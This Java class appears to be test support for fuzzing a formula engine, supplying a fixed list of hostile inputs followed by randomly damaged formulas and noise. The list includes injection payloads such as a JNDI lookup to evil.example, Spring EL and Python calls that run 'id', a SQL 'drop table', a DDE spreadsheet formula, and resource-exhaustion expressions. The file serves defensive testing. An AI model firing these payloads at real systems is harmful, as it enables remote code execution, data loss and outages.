package org.waymark.evidence.expressions;

import java.util.List;
import java.util.Random;

/** What a mischievous or clumsy person types: formulas, damaged formulas, heaps of words, noise, and attacks on known engines. */
final class HostileTexts {
    /** Each has burnt time or memory, or reached the machine, in an engine of others; or tries what could do so here. */
    static final List<String> ATTACKS = List.of(
            "9^99999999",
            "9^9^9^9^9^9^9",
            "(((((9^10)^10)^10)^10)^10)^10",
            "FACT(3000000)",
            "STR_MATCHES(\"" + "a".repeat(40) + "!\", \"^(a+)+$\")",
            "while(true){}",
            "for(;;);",
            "''.getClass().forName('java.lang.Runtime').getMethod('getRuntime')",
            "\"\".class.forName(\"java.lang.System\").exit(0)",
            "${jndi:ldap://evil.example/a}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "__import__('os').system('id')",
            "1; drop table kpi; --",
            "=cmd|'/c calc'!A1",
            "[1,2,3].all(x, [1,2,3].all(y, [1,2,3].all(z, x + y + z > 0)))",
            "(".repeat(20_000) + "1" + ")".repeat(20_000),
            "(".repeat(1_000),
            ")".repeat(1_000),
            "-".repeat(1_999) + "1",
            "not ".repeat(499) + "1 < 2",
            "2" + "^2".repeat(900),
            "1" + "+1".repeat(999),
            "[a]" + "*[a]".repeat(400),
            "if(1<2,".repeat(250) + "1",
            "min(".repeat(60) + "1" + ")".repeat(60),
            "max(" + "1,".repeat(900) + "1)",
            "movsum(".repeat(60) + "[revenue]" + ", 400)".repeat(60),
            "movavg(movsum(delta(lag([revenue], 400), 400), 400), 400)",
            "lag([revenue], 2147483648)",
            "lag([revenue], -1)",
            "round([revenue], 1e9)",
            "exp(exp(exp(exp([revenue]))))",
            "1e308 * 10 - 1e308 * 10",
            "0 * (1 / 0)",
            "sqrt(-1) + ln(0) + ln(-1) + 0^-1 + 0/0",
            "1" + "0".repeat(1_900),
            "0." + "0".repeat(1_900) + "1",
            "1e" + "9".repeat(1_000),
            "1.1.1.1",
            ".",
            "e",
            "[",
            "[]",
            "[" + "x".repeat(1_900) + "]",
            "kpi(\"",
            "kpi(\"" + "\\\"".repeat(500) + "\")",
            "\u0000",
            "1\u00001",
            "\uD800",
            "\uDFFF + \uD83D\uDE00",
            "١ + ٢",
            "\u202E1 + 2",
            "NaN",
            "Infinity - Infinity",
            "true and false",
            "1 < 2 < 3 < 4",
            "(1 < 2) + 1",
            "if(1, 2, 3)",
            "coalesce(" + "1/0,".repeat(300) + "1)",
            "weighted(1, 1, 1, -1)",
            "");

    private static final List<String> WORDS = List.of(
            "+",
            "-",
            "*",
            "/",
            "^",
            "(",
            ")",
            ",",
            "<",
            "<=",
            "=",
            "<>",
            "!",
            "and",
            "or",
            "not",
            "if",
            "min",
            "lag",
            "movsum",
            "cumsum-in",
            "year",
            "weighted",
            "[revenue]",
            "[cost:sum]",
            "kpi(\"orders\")",
            "1",
            "0",
            "1e300",
            "9999999999",
            ".5",
            "\"",
            "[",
            "]",
            "sqrt",
            "coalesce",
            "#",
            "x");

    private final Random random;
    private final RandomFormulas formulas;
    private int count;

    HostileTexts(long seed) {
        random = new Random(seed);
        formulas = new RandomFormulas(random);
    }

    /** All attacks come first. */
    String next() {
        if (count < ATTACKS.size()) return ATTACKS.get(count++);
        return switch (random.nextInt(6)) {
            case 0, 1 -> formulas.next(1 + random.nextInt(20));
            case 2 -> formulas.next(1 + random.nextInt(300));
            case 3 -> damaged(formulas.next(1 + random.nextInt(30)));
            case 4 -> heap(1 + random.nextInt(60));
            default -> noise(random.nextInt(80));
        };
    }

    private String damaged(String formula) {
        var text = new StringBuilder(formula);
        for (int time = 0; time <= random.nextInt(4); time++) {
            int at = random.nextInt(text.length() + 1);
            int to = Math.min(text.length(), at + random.nextInt(6));
            switch (random.nextInt(3)) {
                case 0 -> text.delete(at, to);
                case 1 -> text.insert(at, WORDS.get(random.nextInt(WORDS.size())));
                default -> text.insert(at, text.substring(at, to).repeat(1 + random.nextInt(50)));
            }
        }
        return text.toString();
    }

    private String heap(int words) {
        var text = new StringBuilder();
        for (int word = 0; word < words; word++)
            text.append(WORDS.get(random.nextInt(WORDS.size()))).append(random.nextBoolean() ? " " : "");
        return text.toString();
    }

    private String noise(int length) {
        var text = new StringBuilder();
        for (int at = 0; at < length; at++)
            text.append((char) (random.nextInt(4) == 0 ? random.nextInt(0x10000) : 32 + random.nextInt(95)));
        return text.toString();
    }
}
